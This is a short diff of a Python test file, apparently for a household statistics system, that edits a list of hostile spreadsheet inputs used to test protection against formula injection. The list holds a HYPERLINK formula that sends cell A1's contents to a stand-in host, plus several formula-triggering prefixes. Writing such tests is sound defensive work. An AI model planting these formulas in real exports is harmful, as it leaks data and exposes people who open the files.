@@ -13,7 +13,8 @@ from tests.lms.stats.factories import id_number, make_household, make_member
 
 VILLAGE = "621123100201"  # 示例一村, 清源镇
 TOWNSHIP = "621123100000"
-HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"点我")', "+1", "-2", "@SUM(A1:A9)", "\t=1+1",
+# (At most 40 characters: the longest household number.)
+HOSTILE = ['=HYPERLINK("http://e.example/?"&A1,"点我")', "+1", "-2", "@SUM(A1:A9)", "\t=1+1",
            "\r=1+1"]
 
 
